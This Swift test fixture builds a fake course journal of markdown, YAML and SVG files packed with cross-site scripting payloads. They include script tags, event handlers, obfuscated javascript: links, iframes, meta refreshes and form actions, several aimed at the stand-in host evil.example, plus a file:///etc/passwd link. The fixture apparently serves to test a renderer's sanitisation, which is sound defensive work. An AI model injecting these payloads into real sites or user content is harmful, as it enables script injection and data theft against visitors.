/// A journal by somebody who would like to run a script, load something from elsewhere or break a page.
///
/// It builds without an error: what it holds is odd, and allowed.
enum HostileJournal {
  /// Its files, by path.
  static let files =
    [
      ("course.yml", course),
      ("journal/week-01.md", everyPosition),
      ("journal/week-02.md", tooLarge),
      ("journal/week-03.md", otherScripts),
      ("exercises/javascript:alert.md", oddName),
      (
        "exercises/<i>/\"a b'#?&%41.md", "# \(script("an odd path"))\n\n### Straight to the third\n"
      ),
      ("journal/images/wide.svg", picture),
    ] + HostileExercises.files

  /// A script that leaves a trace on the console wherever it gets to run.
  static func script(_ place: String) -> String {
    "<script>\(trace(place))</script>"
  }

  private static func trace(_ place: String) -> String { "console.log('ran: \(place)')" }

  private static let course = #"""
    title: "\#(script("course")) & </title>\"'"
    student: "<img src=x onerror=\#(trace("student"))>"
    starts: 2017-07-31
    weeks:
      - { week: 1, topic: "</title>\#(script("topic"))" }
      - { week: 2, topic: \#(longWord) }
      - { week: 3, topic: الأسبوع الثالث }
      - { week: 4, topic: "\#(script("a week to come"))" }
    """#

  private static let everyPosition = #"""
    ---
    week: 1
    title: "</title></h1>\#(script("title"))"
    date: 2017-08-06
    tags: ["\#(script("tag"))", "\" onmouseover=\"\#(trace("tag"))", "C++", "C#", "javascript:\#(trace("tag"))", 🎉]
    ---

    ## \#(script("heading"))

    \#(script("block"))

    <script src="https://evil.example/a.js"></script>

    <svg onload="\#(trace("svg"))">\#(script("svg"))<a xlink:href="javascript:a"><text>a</text></a></svg>

    <iframe src="https://evil.example/" srcdoc="\#(script("frame"))"></iframe>

    <object data="https://evil.example/"></object><embed src="https://evil.example/">

    <meta http-equiv="refresh" content="0; url=https://evil.example/">

    <base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">

    <form action="https://evil.example/"><input autofocus onfocus="\#(trace("focus"))"></form>

    <style>body { display: none }</style>

    <div id="r.main" style="position: fixed; inset: 0; background: url(https://evil.example/a.png)">a</div>

    <details open ontoggle="\#(trace("toggle"))"><summary>a</summary>b</details>

    <video poster="https://evil.example/a.png"><source src="x" onerror="\#(trace("video"))"></video>

    <!-- a -->\#(script("after a comment"))<!-- b -->

    <!-->\#(script("an empty comment"))-->

    <?php \#(script("php")) ?>

    <![CDATA[\#(script("data"))]]>

    </div></main></article></body>\#(script("after the end"))

    In a line: \#(script("line")), <img src=x onerror="\#(trace("line"))">, <b onclick="a">b</b>,
    &lt;script&gt;\#(trace("entity"))&lt;/script&gt;, &#60;script&#62;\#(trace("number"))&#60;/script&#62;,
    \<script>\#(trace("escape"))\</script>, *<script>*\#(trace("emphasis"))*</script>*, `\#(script("code"))`

    - [plain](javascript:a), [capitals](JaVaScRiPt:a), [a tab](java&#9;script:a), [an entity](&#106;avascript:a),
      [a control](&#1;javascript:a), [a colon](javascript&colon;a), [data](data:text/html,\#(script("data")))
    - [vbscript](vbscript:a), [file](file:///etc/passwd), [blob](blob:a), [protocol](//evil.example/),
      [backslashes](\\\\evil.example/), <javascript:a>, [a reference], [a file](../exercises/javascript%3Aalert.md)
    - [a title](https://example.org/ "\"><script>\#(trace("title"))</script>")
    - [an attribute](<https://example.org/" onmouseover="\#(trace("attribute"))>), <https://example.org/"onclick=a>
    - www.example.org/\#(script("www")), [[week-01#scriptconsolelogran-headingscript|\#(script("wiki"))]]
    - ![\#(script("alt"))](https://evil.example/a.png "\#(script("title"))"), ![](https://evil.example/pixel.gif)
    - ![" onerror="\#(trace("alt"))](images/wide.svg "\" onload=\"\#(trace("title"))")
    - ![data](data:image/svg+xml,<svg/onload=\#(trace("data"))>)

    [a reference]: javascript:a "\#(script("reference"))"

    | \#(script("head")) | b |
    | --- | --- |
    | <img src=x onerror=\#(trace("cell"))> | `\#(script("cell"))` |

    ```html"><script>\#(trace("info"))</script>
    </code></pre>\#(script("fence"))
    ```

        </code></pre>\#(script("indented code"))

    A note[^<script>] and another.[^"]

    [^<script>]: \#(script("note"))
    [^"]: The name of this one is a quotation mark.

    \#(script("underlined heading"))
    ===
    # A heading as large as the title
    ##
    ##### Straight to the fifth

    <!-- never closed \#(script("an open comment"))
    """#

  private static let longWord = String(repeating: "Donaudampfschifffahrt", count: 15)

  private static let tooLarge = """
    ---
    week: 2
    title: \(longWord)
    tags: [\(longWord), short]
    draft: true
    ---

    \(longWord)

    ## \(longWord)

    ### \(longWord)

    - \(longWord)
      1. \(longWord)
    - [ ] \(longWord)

    > \(longWord)

    [\(longWord)](week-01.md), `\(longWord)`, **\(longWord)**, https://example.org/\(longWord)

    ![\(longWord)](images/wide.svg "\(longWord)") ![\(longWord)](https://evil.example/\(longWord).png)

    <div>\(longWord)</div>

    | a | \(longWord) |
    | - | - |
    | \(longWord) | b |

    |\(String(repeating: " column |", count: 60))
    |\(String(repeating: " --- |", count: 60))
    |\(String(repeating: " cell |", count: 60))

    ```
    \(longWord) \(longWord)
    ```

    A note.[^\(longWord)]

    [^\(longWord)]: \(longWord)

    \((1...60).map { String(repeating: ">", count: $0) + " quoted" }.joined(separator: "\n"))

    \((0..<40).map { String(repeating: "  ", count: $0) + "- listed" }.joined(separator: "\n"))
    """

  private static let otherScripts = """
    ---
    week: 3
    title: يوميات التسويق
    date: 2017-08-20
    tags: [تسويق, 日本語]
    ---

    ## هذا الأسبوع

    هذه فقرة باللغة العربية مع كلمة English وأرقام 123 ورابط [إلى الأسبوع الأول](week-01.md).

    - بند أول
    - [x] بند ثان

    > اقتباس، و\u{202E}override\u{202C} و\u{2066}isolate

    ## 日本語の見出し

    \(String(repeating: "日本語の文章はスペースなしで長く続く。", count: 20))

    ## 🎉

    e\(String(repeating: "\u{301}", count: 60)), [[Week 2]] and [[يوميات التسويق#日本語の見出し]]
    """

  private static let oddName = #"""
    # \#(script("a note's title"))

    ## \#(script("a note's heading"))

    [itself](javascript%3Aalert.md), [a query](?a=<script>#scriptconsolelogran-a-notes-headingscript),
    [[javascript:alert]], [the other](%3Ci%3E/%22a%20b%27%23%3F&%2541.md), [an entry](../journal/week-01.md)
    """#

  private static let picture = """
    <svg xmlns="http://www.w3.org/2000/svg" width="2000" height="20"><path d="M0 0h2000v20H0z"/></svg>
    """
}
